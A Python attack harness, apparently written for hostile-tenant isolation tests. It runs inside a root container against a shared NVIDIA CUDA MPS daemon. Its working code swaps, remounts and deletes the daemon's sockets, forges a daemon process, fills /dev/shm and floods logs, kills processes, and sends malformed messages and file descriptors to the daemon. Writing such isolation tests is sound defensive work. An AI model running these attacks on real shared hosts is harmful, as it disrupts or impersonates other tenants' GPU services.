"""The attacks of a hostile root container, run inside it with only the standard library.

`python attacks.py NAME [WORDS]` makes one attack and prints its result as JSON.
tests/e2e/test_hostile_tenants.py and hack/chaos check that.
"""

import array
import ctypes
import errno
import json
import os
import secrets
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Callable, Mapping, Sequence
from contextlib import suppress
from pathlib import Path

PIPES = Path("/tmp/nvidia-mps")
SHM = Path("/dev/shm")
CONTROL = "nvidia-cuda-mps-control"
NAMES = ("control", "control_privileged", "log", "control_lock", f"{CONTROL}.pid", ".control.new")
MIB = 1024**2
_PR_SET_NAME = 15
_MS_REMOUNT, _MS_BIND, _MNT_DETACH = 0x20, 0x1000, 0x2


def places() -> object:
    """Put its own files where the daemon's sockets are; return what succeeded."""
    mine = SHM / "mine"
    mine.mkdir(exist_ok=True)
    (mine / "file").touch()
    libc = ctypes.CDLL(None, use_errno=True)

    def must(result: int) -> None:
        if result != 0:
            raise OSError(ctypes.get_errno(), "refused")

    pipes = os.fsencode(PIPES)
    ways: dict[str, Callable[[Path], object]] = {
        "unlink": Path.unlink,
        "rename": lambda path: path.rename(path.with_name("other")),
        "replace": (mine / "file").replace,
        "symlink": lambda path: path.symlink_to("/dev/shm/mine/file"),
        "link": lambda path: path.hardlink_to(PIPES / "control"),
        "folder": Path.mkdir,
        "fifo": os.mkfifo,
        "device": lambda path: os.mknod(path, 0o020666, os.makedev(1, 5)),
        "file": lambda path: path.write_bytes(b"x" * MIB) if path.name != "log" else _refuse(),
        "socket": lambda path: _listen(path.parent, path.name),
        "chmod": lambda path: path.chmod(0),
        "chown": lambda path: os.chown(path, 1, 1),
        "times": lambda path: os.utime(path, (0, 0)),
        "remount": lambda _: must(
            libc.mount(None, pipes, None, ctypes.c_ulong(_MS_REMOUNT | _MS_BIND), None)
        ),
        "tmpfs": lambda _: must(libc.mount(b"tmpfs", pipes, b"tmpfs", ctypes.c_ulong(0), None)),
        "umount": lambda _: must(libc.umount2(pipes, _MNT_DETACH)),
    }
    done = []
    for way, act in ways.items():
        for name in NAMES:
            with suppress(OSError):
                act(PIPES / name)
                done.append(f"{way} {name}")
    return done


def forge(*variables: str) -> object:
    """Start a process that poses as another domain's daemon; return the commands that run."""
    env = dict(variable.split("=", 1) for variable in variables)
    folder = SHM / "forged"
    folder.mkdir(exist_ok=True)
    _start([sys.executable, __file__, "stay", str(folder)], {**os.environ, **env})
    theirs = SHM / "theirs"
    theirs.mkdir(exist_ok=True)
    env |= {"CUDA_MPS_PIPE_DIRECTORY": str(theirs), "CUDA_MPS_LOG_DIRECTORY": "/tmp"}
    subprocess.run([CONTROL, "-d"], env={**os.environ, **env}, check=False, timeout=30)
    end = time.monotonic() + 10
    while not (folder / "control_privileged").exists() and time.monotonic() < end:
        time.sleep(0.05)
    return _looking_like_daemons()


def stay(folder: str) -> object:
    """Listen like a daemon, under its name, forever."""
    libc = ctypes.CDLL(None)
    libc.prctl(_PR_SET_NAME, CONTROL.encode(), 0, 0, 0)
    ends = [_listen(Path(folder), name) for name in ("control", "control_privileged")]
    while ends:
        signal.pause()
    return None


def links(*targets: str) -> object:
    """Put links, devices and odd names wherever it can write; return how many it made."""
    put = 0
    for place in (SHM, SHM / "deep" / "er", Path("/tmp")):
        place.mkdir(parents=True, exist_ok=True)
        for target in targets:
            for name in (*NAMES, f"{abs(hash(target))}", "x" * 255, "a\nb", "\udcff", "-rf"):
                with suppress(OSError):
                    (place / name).unlink(missing_ok=True)
                    (place / name).symlink_to(target)
                    put += 1
        with suppress(OSError):
            os.mknod(place / "zero", 0o020666, os.makedev(1, 5))
            put += 1
    return put


def fill() -> object:
    """Fill everything writable; return how many MiB and files /dev/shm took."""
    took: dict[str, int] = {"MiB": 0, "files": 0}
    with suppress(OSError), (SHM / "big").open("wb", buffering=0) as file:
        while took["MiB"] < 1024:
            took["MiB"] += file.write(b"\1" * MIB) // MIB
    with suppress(OSError):
        while took["files"] < 20_000:
            (SHM / f"small-{took['files']}").touch()
            took["files"] += 1
    _flood_log(seconds=2)
    ends = _flood_socket(connections=500)
    time.sleep(1)
    for end in ends:
        end.close()
    return took


def order(*commands: str) -> object:
    """Send its daemon commands in every way; return the distinct answers."""
    alias = SHM / "alias"
    alias.mkdir(exist_ok=True)
    for name in ("control", "control_privileged"):
        with suppress(FileExistsError):
            (alias / name).symlink_to(PIPES / "control")
    paths = [str(PIPES), str(alias), "/proc/1/root/tmp/nvidia-mps", "/tmp/nvidia-mps/../nvidia-mps"]
    answers = set()
    for _ in range(5):
        for path in paths:
            for command in commands:
                done = subprocess.run(
                    [CONTROL],
                    input=f"{command}\n",
                    env={**os.environ, "CUDA_MPS_PIPE_DIRECTORY": path},
                    capture_output=True,
                    text=True,
                    check=False,
                    timeout=30,
                )
                answers.add(" ".join((done.stdout + done.stderr).split()))
    return sorted(answers)


def kill() -> object:
    """Kill every process that it sees except the two that keep its container; return the PIDs."""
    processes = [path for path in Path("/proc").iterdir() if path.name.isdigit()]
    seen = {int(path.name) for path in processes if _command(path) != "sleep"}
    killed = []
    for pid in seen - {1, os.getpid()}:
        with suppress(ProcessLookupError, PermissionError):
            os.kill(pid, signal.SIGKILL)
            killed.append(pid)
    return sorted(killed)


def clutter() -> object:
    """Put 100,000 links and folders into /dev/shm, then bytes; return what it accepted."""
    took = {"links": 0, "folders": 0, "MiB": 0}
    mark = secrets.token_hex(4)
    with suppress(OSError):
        for number in range(50_000):
            (SHM / f"{mark}-{number}").symlink_to("/nowhere")
            took["links"] += 1
    with suppress(OSError):
        for number in range(50_000):
            (SHM / f"{mark}+{number}").mkdir()
            took["folders"] += 1
    with suppress(OSError), (SHM / f"{mark}-last").open("wb", buffering=0) as file:
        while took["MiB"] < 64:
            took["MiB"] += file.write(b"\1" * MIB) // MIB
    return took


def garbage() -> object:
    """Send broken messages, and descriptors, to all sockets and pipes of its daemon."""
    sent = 0
    os.chdir(PIPES)
    files = array.array("i", [os.open("/dev/null", os.O_RDONLY) for _ in range(200)]).tobytes()
    rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, files)]
    messages = (b"", b"\0" * 65_536, b"\xff" * 8, os.urandom(1000), b"quit\n" * 1000, b"%s%n" * 99)
    for name in sorted(path.name for path in PIPES.iterdir()):
        for kind in (socket.SOCK_SEQPACKET, socket.SOCK_STREAM, socket.SOCK_DGRAM):
            for message in messages:
                with suppress(OSError), socket.socket(socket.AF_UNIX, kind) as end:
                    end.setblocking(False)
                    end.connect(name)
                    end.send(message)
                    end.sendmsg([message], rights)
                    sent += 1
        with suppress(OSError):
            pipe = os.open(name, os.O_WRONLY | os.O_NONBLOCK)
            sent += os.write(pipe, os.urandom(65_536)) > 0
    return sent


def mute() -> object:
    """Leave stopped processes behind that have connected to the daemon and send nothing."""
    before = len(list(Path("/proc").glob("[0-9]*")))
    for _ in range(4):
        _start([sys.executable, __file__, "stopped"], os.environ)
    time.sleep(2)
    return len(list(Path("/proc").glob("[0-9]*"))) - before


def stopped() -> object:
    """Connect to the daemon, and stop with the sockets open."""
    ends = _flood_socket(connections=100)
    while ends:
        os.kill(os.getpid(), signal.SIGSTOP)
    return None


def _refuse() -> object:
    raise OSError(errno.EPERM, "a FIFO always takes bytes")


def _start(command: Sequence[str], env: Mapping[str, str]) -> None:
    quiet = subprocess.DEVNULL
    subprocess.Popen(
        command, env=env, stdin=quiet, stdout=quiet, stderr=quiet, start_new_session=True
    )


def _listen(folder: Path, name: str) -> socket.socket:
    os.chdir(folder)
    end = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    end.bind(name)
    end.listen(8)
    return end


def _looking_like_daemons() -> list[str]:
    processes = Path("/proc").glob("[0-9]*")
    named = [process for process in processes if _command(process).startswith("nvidia-cuda-mps")]
    lines = [(process / "cmdline").read_bytes() for process in named]
    return sorted(Path(line.split(b"\0")[0].decode()).name for line in lines)


def _command(process: Path) -> str:
    with suppress(OSError):
        return (process / "comm").read_text(errors="replace").strip()
    return ""


def _flood_log(*, seconds: float) -> None:
    with suppress(OSError):
        log = os.open(PIPES / "log", os.O_WRONLY | os.O_NONBLOCK)
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            with suppress(BlockingIOError):
                os.write(log, b"\1" * 4096)


def _flood_socket(*, connections: int) -> list[socket.socket]:
    os.chdir(PIPES)
    ends = []
    for number in range(connections):
        end = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        end.setblocking(False)
        ends.append(end)
        with suppress(OSError):
            end.connect("control")
            end.send(os.urandom(number))
    return ends


if __name__ == "__main__":
    ways = (places, forge, stay, links, fill, order, kill)
    more = (clutter, garbage, mute, stopped)
    attack = {way.__name__: way for way in (*ways, *more)}
    sys.stdout.write(json.dumps(attack[sys.argv[1]](*sys.argv[2:])))
